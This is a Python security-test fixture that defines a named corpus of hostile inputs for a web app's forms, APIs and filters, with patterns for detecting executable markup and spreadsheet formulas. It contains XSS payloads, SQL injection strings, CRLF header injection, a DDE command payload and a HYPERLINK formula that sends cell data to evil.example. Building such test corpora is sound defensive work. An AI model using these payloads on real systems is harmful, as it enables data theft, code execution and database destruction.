"""Hostile input, one named list, sent to every form, every API write and every list filter
(tests/security/test_bad_input_corpus.py).

A case is text. How it travels depends on the channel: as UTF-8 in a form post or a query
string, as a JSON string in an API body. A lone surrogate cannot be encoded as UTF-8 at
all: a browser or a script sends the bytes a careless encoder makes of it (ED A0 80,
invalid UTF-8) in a form, and the escape "\\ud800" in JSON; `form_bytes` holds those bytes.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # markup, nul, encoding, long, sql, formula, unicode or header
    text: str
    # What a form post or a query string carries, when that is not the text's UTF-8.
    raw: bytes | None = None

    @property
    def form_bytes(self) -> bytes:
        return self.raw if self.raw is not None else self.text.encode("utf-8")

    def __str__(self) -> str:
        return self.name


LONG = 100_000

CORPUS: list[Case] = [
    Case("script", "markup", "<script>alert(1)</script>"),
    Case("script-full-width", "markup", "＜script＞alert(1)＜/script＞"),
    Case("img-onerror", "markup", "<img src=x onerror=alert(1)>"),
    Case("svg-onload-in-quotes", "markup", '"><svg onload=alert(1)>'),
    Case("javascript-url", "markup", "javascript:alert(document.cookie)"),
    Case(
        "javascript-markdown-link",
        "markup",
        "[詳細](javascript:alert(1)) [more](JaVaScRiPt:alert(1))",
    ),
    Case("nul", "nul", "報告\x00書"),
    Case("nul-only", "nul", "\x00"),
    Case("lone-surrogate", "encoding", "\ud800", raw=b"\xed\xa0\x80"),
    Case("long-ascii", "long", "A" * LONG),
    Case(
        "long-japanese",
        "long",
        # 100,000 bytes of UTF-8 (three bytes a character).
        ("経済安全保障推進法に基づく特定重要物資の安定供給確保。" * LONG)[: LONG // 3],
    ),
    Case("long-many-words", "long", ("x " * (LONG // 2)).strip()),
    Case("sql-drop", "sql", "'; DROP TABLE dialogue_threat; --"),
    Case("sql-or", "sql", "1 OR 1=1"),
    Case("formula-hyperlink", "formula", '=HYPERLINK("http://evil.example/?d="&A1,"詳細")'),
    Case("formula-plus", "formula", "+1+cmd|' /C calc'!A0"),
    Case("formula-minus", "formula", "-2+3"),
    Case("formula-at", "formula", "@SUM(1+1)"),
    Case("formula-full-width", "formula", "＝1+1"),
    Case("rtl-override", "unicode", "invoice\u202efdp.exe"),
    Case("zero-width", "unicode", "ゼロ\u200b幅\u200c文字\u200d\ufeff"),
    Case("crlf-header", "header", "x\r\nSet-Cookie: injected=1\r\nX-Injected: 1"),
    Case("emoji", "unicode", "🔥🏭👩‍🔬🇯🇵 供給途絶"),
]

BY_NAME = {case.name: case for case in CORPUS}
assert len(BY_NAME) == len(CORPUS), "case names must be unique"

# Markup that would run if it reached a page unescaped (an escaped &lt;script&gt; is fine).
EXECUTABLE = (
    "<script>alert",
    "<img src=x onerror",
    "<svg onload",
    'href="javascript:',
    "href='javascript:",
    "href=javascript:",
)

# The first characters a spreadsheet reads as a formula (dialogue/exports/neutralize.py).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
